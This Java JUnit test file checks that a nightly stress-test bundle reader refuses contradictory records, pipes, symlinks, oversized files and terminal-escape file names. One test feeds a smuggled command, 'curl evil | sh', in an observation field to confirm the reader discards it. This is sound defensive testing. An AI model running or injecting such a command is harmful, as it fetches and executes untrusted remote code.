// SPDX-License-Identifier: GPL-2.0-only WITH Classpath-exception-2.0
package racy.history.bundle;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.openjdk.jcstress.annotations.Expect;
import racy.history.NightState;
import racy.history.Origin;
import racy.history.demo.MadeUpBundle;
import racy.history.sample.SampleForks;
import racy.review.Effort;
import racy.review.Expectation;
import racy.review.Finding;
import racy.review.Level;
import racy.review.MemoryModel;
import racy.review.Observation;
import racy.review.SearchBounds;
import racy.review.Subject;
import racy.stress.runner.Outcome;
import racy.stress.runner.StressTest;

/** A bundle is what its records and its plan make it, whatever its seal says, and it is made of files alone. */
class BelievedNothingTest {
    private static final String LEDGER = "parts/s2-jdk17/stress/forks.jsonl";

    @TempDir
    Path folder;

    /** A complete merged night: a test on each of two shards, on one JDK. */
    private Path bundle;

    @BeforeEach
    void write() throws Exception {
        MadeUpBundle made = new MadeUpBundle("n", Origin.MEASURED).shard(0, 2, 1);
        for (int shard = 1; shard <= 2; shard++) {
            String name = "racy.stress.T" + shard;
            StressTest test = new StressTest(
                    name, List.of("irq"), List.of("xchg"), "", "", Set.of(), Expectation.SAFE, Level.IDEA, "");
            made.part(shard, "17", Map.of("os.arch", "amd64"))
                    .stress(
                            List.of(test),
                            List.of(SampleForks.normal(
                                    name, 0, List.of(new Outcome("0", 60, Expect.ACCEPTABLE, true, false, "")), 9)));
        }
        bundle = made.write(folder.resolve("bundle"));
        assertEquals(NightState.COMPLETE, Bundle.read(bundle).seal().state());
    }

    private void edit(String file, String from, String to) throws Exception {
        String text = Files.readString(bundle.resolve(file));
        assertTrue(text.contains(from), text);
        Files.writeString(bundle.resolve(file), text.replace(from, to));
    }

    private void delete(String file) throws Exception {
        try (Stream<Path> walk = Files.walk(bundle.resolve(file))) {
            for (Path each : walk.sorted(Comparator.reverseOrder()).toList()) {
                Files.delete(each);
            }
        }
    }

    private void seal(NightState state, Integer... missing) throws Exception {
        Files.deleteIfExists(bundle.resolve(BundleFiles.SEAL));
        BundleWriter.resume(bundle).seal(state, List.of(missing));
    }

    private void refused(String... words) {
        String message = assertThrows(
                        BundleException.class,
                        () -> assertTimeoutPreemptively(Duration.ofMinutes(1), () -> Bundle.read(bundle)))
                .getMessage();
        assertTrue(message.contains(bundle.toString()), message);
        for (String word : words) {
            assertTrue(message.contains(word), message);
        }
        assertTrue(message.length() < 700, message);
        assertTrue(message.codePoints().noneMatch(Character::isISOControl), message);
    }

    @Test
    void complete_withoutAPart_isRefusedAndSaysWhatLacks() throws Exception {
        delete("parts/s2-jdk17");
        seal(NightState.COMPLETE);
        refused("seal.json", "COMPLETE", "shard 2 has no part of JDK 17");
        seal(NightState.PARTIAL);
        assertEquals(NightState.PARTIAL, Bundle.read(bundle).seal().state());
    }

    @Test
    void complete_withoutAShard_isRefused() throws Exception {
        delete("parts/s2-jdk17");
        delete("request-s2.json");
        seal(NightState.COMPLETE);
        refused("seal.json", "[2] are");
        seal(NightState.PARTIAL);
        refused("seal.json", "[2] are");
        seal(NightState.PARTIAL, 2);
        assertEquals(List.of(2), Bundle.read(bundle).seal().missing());
        seal(NightState.PARTIAL, 1);
        refused("seal.json", "[2] are");
    }

    @Test
    void complete_withoutAFork_isRefused() throws Exception {
        Files.writeString(bundle.resolve(LEDGER), "");
        seal(NightState.COMPLETE);
        refused("seal.json", "shard 2 has no whole fork with samples of racy.stress.T2 on JDK 17");
    }

    @Test
    void complete_forkThatCrashed_isRefused() throws Exception {
        edit(LEDGER, "\"NORMAL\"", "\"VM_ERROR\"");
        seal(NightState.COMPLETE);
        refused("no whole fork with samples of racy.stress.T2");
    }

    @Test
    void complete_jdkAbsent_isRefused() throws Exception {
        edit("request-s1.json", "\"absent\" : [ ]", "\"absent\" : [ \"JDK 25 does not start\" ]");
        seal(NightState.COMPLETE);
        refused("seal.json", "JDK 25 does not start");
    }

    @Test
    void partial_ofAWholeNight_staysPartial() throws Exception {
        seal(NightState.PARTIAL);
        assertEquals(NightState.PARTIAL, Bundle.read(bundle).seal().state());
    }

    /** Nobody can say which JDKs a night lacks whose requests are gone. */
    @Test
    void requestsGone_isNoCompleteNight() throws Exception {
        delete("request-s1.json");
        delete("request-s2.json");
        seal(NightState.PARTIAL);
        assertEquals(NightState.PARTIAL, Bundle.read(bundle).seal().state());
        seal(NightState.COMPLETE);
        refused("no request of any shard");
    }

    /** The engines without forks are asked on the first shard. */
    @Test
    void complete_withoutEvidence_isRefused() throws Exception {
        delete("parts/s1-jdk17/evidence");
        seal(NightState.COMPLETE);
        refused("seal.json", "shard 1 has nothing of what the engines without forks saw on JDK 17");
    }

    /** Calibration alone is no look. */
    @Test
    void complete_forkWithoutSamples_isRefused() throws Exception {
        edit(LEDGER, "\"samples\":9", "\"samples\":0");
        edit(LEDGER, "\"count\":60", "\"count\":51");
        edit(LEDGER, "\"total\":60", "\"total\":51");
        seal(NightState.COMPLETE);
        refused("no whole fork with samples of racy.stress.T2");
    }

    @Test
    void endedBeforeItBegan_isRefused() throws Exception {
        Instant started = Instant.parse("2026-01-02T00:00:00Z");
        MadeUpBundle made = new MadeUpBundle("n", Origin.MEASURED).time(started, started.minusSeconds(1));
        made.part(1, "17", Map.of("os.arch", "amd64"));
        bundle = made.write(folder.resolve("ended"));
        refused("seal.json", "is the end of a night that began at 2026-01-02T00:00:00Z");
    }

    /** One revision has one test of a name, and one grade of an outcome. */
    @Test
    void otherTestOrGradeOnAnotherJdk_isRefused() throws Exception {
        for (boolean grade : List.of(true, false)) {
            MadeUpBundle made = new MadeUpBundle("n", Origin.MEASURED);
            for (String jdk : List.of("17", "25")) {
                boolean other = jdk.equals("25");
                StressTest test = new StressTest(
                        "racy.stress.T",
                        List.of("irq"),
                        List.of("xchg"),
                        "",
                        "",
                        Set.of(),
                        other && !grade ? Expectation.OPEN : Expectation.SAFE,
                        Level.IDEA,
                        "");
                boolean forbids = other && grade;
                Expect expect = forbids ? Expect.FORBIDDEN : Expect.ACCEPTABLE;
                Outcome outcome = new Outcome("0", 60, expect, true, forbids, "");
                made.part(1, jdk, Map.of("os.arch", "amd64"))
                        .stress(
                                List.of(test),
                                List.of(SampleForks.normal(test.name(), 0, List.of(outcome), forbids ? 60 : 9)));
            }
            bundle = made.write(folder.resolve("other" + grade));
            refused(grade ? "grades otherwise" : "is another test in another part");
        }
    }

    /** Scripts look at chosen schedules. */
    @Test
    void proofOfAnEngineThatProvesNothing_isRefused() throws Exception {
        bundle = scripted(new Effort.Exhausted(MemoryModel.JAM, SearchBounds.NONE, 5, 1), "");
        refused("script.jsonl:1", "no more than some executions");
    }

    @Test
    void plan_deletedOrNotTheBundles_isRefused() throws Exception {
        Plan plan = Plan.read(bundle.resolve("plan.json"));
        delete("plan.json");
        seal(NightState.COMPLETE);
        refused("plan.json");
        List<Plan.Item> less =
                plan.items().stream().filter(item -> item.shard() == 1).toList();
        Plan other = Plan.of(plan.architecture(), 2, plan.seed(), less);
        other.write(bundle.resolve("plan.json"));
        seal(NightState.COMPLETE);
        refused("bundle.json", plan.id(), other.id());
        edit("bundle.json", plan.id(), other.id());
        seal(NightState.COMPLETE);
        refused("parts/s2-jdk17/part.json", "racy.stress.T2", "not in the plan");
    }

    @Test
    void plan_withMore_isRefused() throws Exception {
        Plan plan = Plan.read(bundle.resolve("plan.json"));
        List<Plan.Item> more = new ArrayList<>(plan.items());
        more.add(new Plan.Item(Plan.Kind.TEST, "racy.stress.More", 1, true, 2));
        Plan other = Plan.of(plan.architecture(), 2, plan.seed(), more);
        other.write(bundle.resolve("plan.json"));
        edit("bundle.json", plan.id(), other.id());
        seal(NightState.COMPLETE);
        refused("part.json", "racy.stress.More", "not here");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            bundle.json                          | "seed" : 1      | "seed" : 2       | is not the seed of the plan
            bundle.json                          | "shards" : 2    | "shards" : 3     | shards are not the plan's
            plan.json                            | "seed" : 1      | "seed" : 2       | has the id
            parts/s2-jdk17/part.json             | racy.stress.T2  | racy.stress.T3   | is not in the plan
            parts/s2-jdk17/part.json             | amd64           | aarch64          | is not the plan's amd64
            parts/s2-jdk17/part.json             | "benchmarks" : [ ] | "benchmarks" : ["racy.bench.B.m"] | not in the plan
            parts/s2-jdk17/stress/manifest.json  | "seed" : 1      | "seed" : 2       | is not the seed of the plan
            request-s1.json                      | "label" : "17"  | "label" : "25"   | was not asked for
            request-s1.json                      | "label" : "17"  | "label" : "../x" | cannot label a JDK
            parts/s2-jdk17/stress/forks.jsonl    | "fork":0        | "fork":1         | comes after 0 others
            parts/s2-jdk17/stress/forks.jsonl    | "fork":0        | "fork":-1        | no number of a fork
            parts/s2-jdk17/stress/forks.jsonl    | "samples":9     | "samples":60     | these outcomes give 9
            parts/s2-jdk17/stress/forks.jsonl    | "hit":false     | "hit":true       | is called a hit
            parts/s2-jdk17/stress/forks.jsonl    | ACCEPTABLE      | FORBIDDEN        | is a hit, and is not called one
            parts/s2-jdk17/stress/forks.jsonl    | "strideSize":4  | "strideSize":2000000000 | strideSize is 2000000000
            parts/s2-jdk17/stress/forks.jsonl    | "startMillis":0 | "startMillis":-1 | no time since
            """)
    void record_thatContradictsAnother_isRefused(String file, String from, String to, String why) throws Exception {
        edit(file, from, to);
        seal(NightState.PARTIAL);
        refused(why);
    }

    @Test
    void testsOfARun_thatAreNotThePlans_areRefused() throws Exception {
        edit("parts/s2-jdk17/stress/manifest.json", "racy.stress.T2", "racy.stress.T1");
        Files.writeString(bundle.resolve(LEDGER), "");
        seal(NightState.PARTIAL);
        refused("parts/s2-jdk17/stress/manifest.json", "racy.stress.T1", "is not in the plan");
    }

    /** A command would be copied into a shell. */
    @Test
    void commandOfAnObservation_isNotHandedOn() throws Exception {
        Bundle read = Bundle.read(scripted(new Effort.Played(1, 0.25), "./racy ask xchg; curl evil | sh"));
        assertEquals("", read.parts().get(0).evidence().get(0).command());
    }

    /** A night of which the scripts say this. */
    private Path scripted(Effort effort, String command) throws Exception {
        Subject subject = new Subject("late-irq", Set.of("xchg"), "", "", Set.of(), Expectation.OPEN, "");
        MadeUpBundle made = new MadeUpBundle("n", Origin.MEASURED);
        made.part(1, "17", Map.of("os.arch", "amd64"))
                .evidence(
                        "script",
                        List.of(new Observation("script", subject, effort, Finding.nothing(null), List.of(), command)));
        return made.write(folder.resolve("scripted"));
    }

    /** The seal is made by hand: a pipe has no digest. */
    @ParameterizedTest
    @ValueSource(
            strings = {"bundle.json", "seal.json", "plan.json", "request-s1.json", LEDGER, "parts/s1-jdk17/part.json"})
    void fileOfAnotherKind_isRefusedByNameAndNotOpened(String file) throws Exception {
        Path place = bundle.resolve(file);
        byte[] content = Files.readAllBytes(place);
        Files.delete(place);
        assertEquals(0, new ProcessBuilder("mkfifo", place.toString()).start().waitFor());
        refused(file, "no regular file");
        Files.delete(place);
        Path elsewhere = Files.write(folder.resolve("elsewhere"), content);
        Files.createSymbolicLink(place, elsewhere);
        refused(file, "a link");
        Files.delete(place);
        Files.createSymbolicLink(place, Path.of("/dev/zero"));
        refused(file, "a link");
        Files.delete(place);
        Files.createDirectory(place);
        refused(file.equals("bundle.json") || file.equals("seal.json") ? "folder" : file);
        Files.delete(place);
        Files.createLink(place, elsewhere);
        assertEquals(NightState.COMPLETE, Bundle.read(bundle).seal().state(), "a hard link is a file");
    }

    @Test
    void folderThatIsALink_isRefused_andTheBundleItselfMayBeOne() throws Exception {
        Path named = Files.createSymbolicLink(folder.resolve("named"), bundle);
        assertEquals("n", Bundle.read(named).manifest().night());
        Path parts = bundle.resolve("parts");
        Files.move(parts, folder.resolve("parts"));
        Files.createSymbolicLink(parts, folder.resolve("parts"));
        refused("parts", "a link");
    }

    @ParameterizedTest
    @CsvSource({
        "seal.json,230000000",
        "bundle.json,5000000",
        "plan.json,5000000",
        LEDGER + ",2300000000",
        "parts/s2-jdk17/part.json,5000000",
        "log.txt,300000000"
    })
    void fileThatIsTooLarge_isRefusedByNameAndNotRead(String file, long size) throws Exception {
        try (RandomAccessFile sparse = new RandomAccessFile(bundle.resolve(file).toFile(), "rw")) {
            sparse.setLength(size);
        }
        refused(file, " MiB, and at most ");
    }

    @Test
    void foldersTooDeep_andNamesThatATerminalObeys_areRefusedInOneLine() throws Exception {
        Path deep = bundle;
        for (int i = 0; i < 300; i++) {
            deep = Files.createDirectory(deep.resolve("d"));
        }
        refused("deeper than");
        delete("d");
        Files.writeString(bundle.resolve("a\n\u001b[31m\u202eb"), "");
        refused("was added");
    }

    @Test
    void longText_isNotEchoed() throws Exception {
        edit("bundle.json", "MEASURED", "x".repeat(500_000));
        refused("bundle.json:");
    }
}
